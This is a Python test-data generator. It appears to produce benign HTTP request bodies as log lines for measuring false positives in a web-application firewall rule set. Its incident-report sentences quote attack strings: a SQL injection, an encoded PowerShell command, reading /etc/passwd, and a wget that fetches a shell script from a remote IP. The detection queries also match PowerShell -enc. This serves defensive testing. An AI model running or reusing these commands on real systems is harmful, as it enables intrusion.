"""A third set of everyday request bodies, as ECS JSON log lines: what a member
organisation's own services and the centre's portal receive. Written (2026-12-04, tenth
session) before fukurou ran on it, and measured on it once as held out.

benign_bodies.py (a shop's forms and API) taught the free-text rules and site_bodies.py
(developer sites, wikis, help desks) taught the prose rule, so neither measures how the
body readers fare on bodies no one tuned for. This set comes from other places:

  - a single-page application's JSON API: sign-in, profile and address changes, search
    filters, pagination, a password change;
  - GraphQL queries and mutations with variables;
  - the security tools a SOC's members run: Elasticsearch and Kibana searches (query DSL,
    KQL and Lucene query strings), Grafana's queries (PromQL, LogQL with its pipes),
    Jira issues created by automation with code blocks of mail headers;
  - chat webhooks (Slack, Teams) carrying alert texts;
  - the centre's own portal: incident reports whose descriptions quote what the
    attacker sent (commands, paths, SQL), and STIX 2.1 bundles posted over TAXII, whose
    patterns are written with quotes, '=' and OR;
  - SOAP calls, SAML responses, multipart uploads of CSV and text, Japanese application
    forms (full-width text, addresses, era dates).

Nothing in it is an attack; the incident reports quote attacks the way people do, in
sentences and code spans.

Usage: bench/crs_eval.py ... --body-generator portal_bodies."""
import base64

from gen_common import body_lines

UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
       "okhttp/4.12.0", "python-requests/2.31.0", "Go-http-client/2.0", "Grafana/10.2.3", "Kibana/8.11.1",
       "Apache-HttpClient/4.5.14 (Java/17.0.9)", "taxii2-client/2.3.0", "Slackbot 1.0 (+https://api.slack.com/robots)"]
NAMES = ["Tanaka Hiroshi", "Sato Yuki", "O'Brien, Sean", "Mary-Jane Watson", "Ng Wei Ling", "D'Angelo Russo",
         "Jean-Luc Picard", "Zoë Müller", "山田 太郎", "佐藤 花子"]
ADDRESSES = ["Apt #3, 1/2 Main St.", "東京都千代田区霞が関1-2-3", "12 O'Connell Street, Dublin 1", "P.O. Box 123 (rear door)",
             "大阪府大阪市北区梅田１丁目１−１", "Flat 4B; 221 Baker Street"]
PASSWORD_CHARS = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#$%^&*()-_=+[]{};:,.<>?/~"
REPORT_SENTENCES = [
    "On 3 December at 02:14 JST our WAF logged requests for /wp-login.php from 45 addresses.",
    "The attacker tried `' OR 1=1 --` in the login form; the requests were blocked.",
    "We found a web shell named `wso.php` under /var/www/html/uploads/ on one server.",
    "A user opened an attachment (invoice.xlsm) and the macro ran `powershell -enc JABzAD0A...`.",
    "The phishing mail came from billing@examp1e-pay.com and linked to hxxps://examp1e-pay[.]com/login.",
    "Outbound connections to 198.51.100.23 on port 4444 stopped after we isolated the host.",
    "Logs show `cat /etc/passwd` and `wget http://203.0.113.9/x.sh -O /tmp/x.sh` run as www-data.",
    "We have reset the passwords of the 12 accounts involved and enabled MFA for all of them.",
    "The SHA-256 of the dropped file is 5f2b6c0e8a3d4e1f9b7c6a5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f.",
    "Please share whether other members in the electricity sector saw the same indicators.",
    "被害はありませんでしたが、念のため該当サーバを隔離しました。",
    "不審なメールの添付ファイルを開いた職員の端末をネットワークから切り離しました。",
]
KQL = ['event.code:4625 and not user.name:"SYSTEM"', 'http.response.status_code >= 500 and url.path:/api/*',
       'process.name:"powershell.exe" and process.command_line:*-enc*', 'source.ip:198.51.100.0/24']
LUCENE = ['message:"failed password" AND host.name:web01', 'status:[500 TO 599] AND NOT path:"/healthz"']
PROMQL = ['sum by (job) (rate(http_requests_total{status=~"5.."}[5m]))', 'up{job="node"} == 0',
          'histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket[5m])) by (le))']
LOGQL = ['{job="nginx"} |= "error" | json | status >= 500', '{app="auth"} |~ "failed (password|login)" | logfmt | line_format "{{.user}}"',
         'sum(count_over_time({job="sshd"} |= "Invalid user" [10m])) by (host)']
STIX_PATTERNS = ["[ipv4-addr:value = '198.51.100.23']", "[domain-name:value = 'examp1e-pay.com'] OR [url:value = 'https://examp1e-pay.com/login']",
                 "[file:hashes.'SHA-256' = '5f2b6c0e8a3d4e1f9b7c6a5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f']",
                 "[email-message:from_ref.value = 'billing@examp1e-pay.com' AND email-message:subject LIKE 'Invoice%']",
                 "[process:command_line MATCHES '^powershell.*-enc']"]
MAIL_HEADERS = ("Received: from mail.examp1e-pay.com (unknown [203.0.113.5])\n\tby mx.example.go.jp (Postfix) with ESMTP id 4T2xyz\n"
                "From: \"Billing\" <billing@examp1e-pay.com>\nSubject: Invoice #20241203 overdue\nX-Mailer: PHPMailer 6.8.1")


def _pw(r):
    return "".join(r.choice(PASSWORD_CHARS) for _ in range(r.randint(12, 20)))


def spa(r):
    return r.choice([
        lambda: ("/api/auth/login", "json", {"username": r.choice(["tanaka", "sato.y", "obrien"]), "password": _pw(r), "remember": True}),
        lambda: ("/api/me/profile", "json", {"displayName": r.choice(NAMES), "address": r.choice(ADDRESSES),
                                             "phone": "+81-3-%04d-%04d" % (r.randint(0, 9999), r.randint(0, 9999)),
                                             "bio": "Security engineer; likes C, Go & tea."}),
        lambda: ("/api/me/password", "json", {"current": _pw(r), "new": _pw(r), "confirm": "same as new"}),
        lambda: ("/api/search", "json", {"filters": {"status": ["open", "in-progress"], "severity": {"gte": 3}, "tags": ["phishing", "c2"]},
                                         "sort": [{"field": "updated", "order": "desc"}], "page": r.randint(1, 9), "per_page": 50}),
        lambda: ("/api/orders", "form", [("item", "usb-c-hub"), ("qty", str(r.randint(1, 3))), ("note", "Leave at door #2 if nobody's home")]),
    ])()


def graphql(r):
    return r.choice([
        lambda: ("/graphql", "json", {"operationName": "Search", "query": "query Search($q: String!, $first: Int) { search(query: $q, first: $first) { edges { node { id title updatedAt } } } }",
                                      "variables": {"q": r.choice(["phishing", "vpn outage", "o'brien"]), "first": 20}}),
        lambda: ("/graphql", "json", {"operationName": "UpdateCase", "query": "mutation UpdateCase($id: ID!, $input: CaseInput!) { updateCase(id: $id, input: $input) { id status } }",
                                      "variables": {"id": str(r.randint(1, 9999)), "input": {"status": "CONTAINED", "note": r.choice(REPORT_SENTENCES)}}}),
    ])()


def tools(r):
    return r.choice([
        lambda: ("/logs-*/_search", "json", {"size": 500, "sort": [{"@timestamp": "desc"}], "query": {"bool": {
            "must": [{"query_string": {"query": r.choice(LUCENE)}}], "filter": [{"range": {"@timestamp": {"gte": "now-15m", "lte": "now"}}}]}},
            "aggs": {"by_host": {"terms": {"field": "host.name", "size": 10}}}}),
        lambda: ("/internal/search/ese", "json", {"params": {"index": "logs-*", "body": {"query": {"bool": {"filter": [
            {"kuery": r.choice(KQL)}, {"range": {"@timestamp": {"gte": "2024-12-03T00:00:00.000Z", "format": "strict_date_optional_time"}}}]}}}}}),
        lambda: ("/api/ds/query", "json", {"queries": [{"refId": "A", "expr": r.choice(PROMQL + LOGQL), "datasource": {"uid": "P1809F7CD0C75ACF3"},
                                                        "intervalMs": 15000, "maxDataPoints": 1200}], "from": "now-6h", "to": "now"}),
        lambda: ("/rest/api/2/issue", "json", {"fields": {"project": {"key": "SOC"}, "issuetype": {"name": "Incident"},
                                                          "summary": "Phishing wave: Invoice #20241203 overdue",
                                                          "description": "Reported by 14 users.\n\n{code}\n%s\n{code}\n\nBlocked the sender domain." % MAIL_HEADERS,
                                                          "labels": ["phishing", "finance"]}}),
        lambda: ("/services/T000/B000/XXXX", "json", {"text": r.choice(["Alert: CPU > 90% on web01 for 10 min", "Resolved: disk /var at 71%",
                                                                         ":rotating_light: 5xx rate 3.2% (threshold 1%) on api-gw"]),
                                                       "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": "*Runbook:* <https://wiki.example.go.jp/x|open>"}}]}),
    ])()


def portal(r):
    bundle = {"objects": [{"type": "indicator", "spec_version": "2.1", "id": "indicator--%08x-0000-4000-8000-%012x" % (r.getrandbits(32), r.getrandbits(48)),
                           "created": "2024-12-03T02:14:00.000Z", "modified": "2024-12-03T02:14:00.000Z", "pattern_type": "stix",
                           "pattern": r.choice(STIX_PATTERNS), "valid_from": "2024-12-03T02:14:00Z", "labels": ["malicious-activity"]}]}
    return r.choice([
        lambda: ("/api/v1/incidents", "json", {"title": r.choice(["Web shell on public server", "Phishing wave", "Brute force on VPN"]),
                                               "category": r.choice(["intrusion", "phishing", "malware"]),
                                               "description": " ".join(r.sample(REPORT_SENTENCES, r.randint(2, 4))),
                                               "indicators": ["198.51.100.23", "examp1e-pay.com", "/var/www/html/uploads/wso.php"], "tlp": "amber"}),
        lambda: ("/taxii2/api1/collections/91a7b528-80eb-42ed-a74d-c6fbd5a26116/objects/", "json", bundle),
        lambda: ("/report", "form", [("org", "Example City"), ("contact", r.choice(NAMES)), ("when", "2024-12-03 02:14"),
                                     ("details", "\r\n".join(r.sample(REPORT_SENTENCES, 2))), ("agree", "on")]),
    ])()


def misc(r):
    soap = ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
            '<GetEmployee xmlns="http://example.go.jp/hr"><name>%s</name><dept>総務課</dept></GetEmployee></soap:Body></soap:Envelope>'
            % r.choice(["O&apos;Brien", "Tanaka", "D&apos;Angelo"]))
    saml = base64.b64encode(('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%x"><saml:Assertion>'
                             '<saml:AttributeValue>%s</saml:AttributeValue></saml:Assertion></samlp:Response>' % (r.getrandbits(64), r.choice(NAMES))).encode()).decode()
    return r.choice([
        lambda: ("/hr/Service.asmx", "xml", soap),
        lambda: ("/saml/acs", "form", [("SAMLResponse", saml), ("RelayState", "https://portal.example.go.jp/cases?status=open")]),
        lambda: ("/upload", "multipart", ("members.csv", "name,email,dept\nTanaka,tanaka@example.go.jp,総務\nO'Brien,obrien@example.go.jp,IT; security\n")),
        lambda: ("/upload", "multipart", ("meeting-notes.txt", "Agenda:\n1. Patch status (see /srv/patches/2024-12.xlsx)\n2. Who owns the VPN appliance?\n")),
        lambda: ("/shinsei/confirm", "form", [("name", r.choice(["山田 太郎", "佐藤 花子"])), ("birth", "昭和55年4月1日"),
                                              ("address", r.choice(ADDRESSES[1::3])), ("reason", "転居のため（令和6年12月1日付）"), ("agree", "1")]),
    ])()


KINDS = [(0.30, spa), (0.42, graphql), (0.68, tools), (0.86, portal), (1.01, misc)]


def _multipart(fname, content):
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    return boundary, ("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: text/plain\r\n\r\n%s\r\n--%s--\r\n"
                      % (boundary, fname, content, boundary))


def generate(n, seed=20261204):
    """n JSON log lines of everyday requests with bodies, from the sources above."""
    return body_lines(n, seed, KINDS, UAS, _multipart)


if __name__ == "__main__":
    for line in generate(8):
        print(line[:300])
